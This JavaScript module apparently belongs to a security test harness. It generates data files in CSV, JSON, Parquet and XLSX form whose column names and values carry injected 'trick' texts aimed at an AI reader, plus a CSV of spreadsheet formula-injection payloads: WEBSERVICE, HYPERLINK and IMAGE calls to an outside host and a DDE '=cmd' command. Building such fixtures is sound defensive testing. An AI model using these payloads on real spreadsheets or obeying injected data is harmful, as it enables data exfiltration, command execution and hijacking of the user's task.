import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parquetWriteBuffer } from 'hyparquet-writer';
import writeExcelFile from 'write-excel-file/node';

/** @typedef {{name: string, content: Buffer}} Sent */

const csvField = (/** @type {string} */ text) => `"${text.replaceAll('"', '""')}"`;

/**
 * Data files whose names of columns and values ask for something, one of each format; and formulas, which a spreadsheet
 * would run.
 * @param {readonly import('./markup.mjs').Trick[]} tricks
 * @param {string} at
 * @returns {Promise<Sent[]>}
 */
export async function hostileFiles(tricks, at) {
  const texts = tricks.map(({ text }) => text);
  const formulas = [
    `=WEBSERVICE("${at}formula")`,
    `=HYPERLINK("${at}link","x")`,
    `=IMAGE("${at}image")`,
    `@SUM(1)`,
    `=cmd|' /C calc'!A0`
  ];
  const csv = [['n', ...texts], ...[0, 1, 2].map((n) => [String(n), ...texts.map((text) => `${text}${n}`)])]
    .map((row) => row.map(csvField).join(','))
    .join('\n');
  const spread = ['n,formula', ...formulas.map((formula, n) => `${n},${csvField(formula)}`)].join('\n');
  const rows = [0, 1, 2].map((n) => Object.fromEntries(texts.map((text) => [text, `${text}${n}`])));
  const parquet = parquetWriteBuffer({
    columnData: texts.map((name) => ({ name, data: [0, 1, 2].map((n) => `${name}${n}`) })),
    kvMetadata: texts.map((text, n) => ({ key: `k${n}`, value: text }))
  });
  const sheet = [
    texts.map((value) => ({ value })),
    ...[0, 1].map(() => [...texts].map((value) => ({ value, type: String })))
  ];
  const path = join(mkdtempSync(join(tmpdir(), 'phems-tricks-')), 'names.xlsx');
  await writeExcelFile(/** @type {any} */ (sheet)).toFile(path);
  const excel = readFileSync(path);
  return [
    { name: 'names.csv', content: Buffer.from(csv) },
    { name: 'formulas.csv', content: Buffer.from(spread) },
    { name: 'names.json', content: Buffer.from(JSON.stringify(rows)) },
    { name: 'names.parquet', content: Buffer.from(parquet) },
    { name: 'names.xlsx', content: excel }
  ];
}
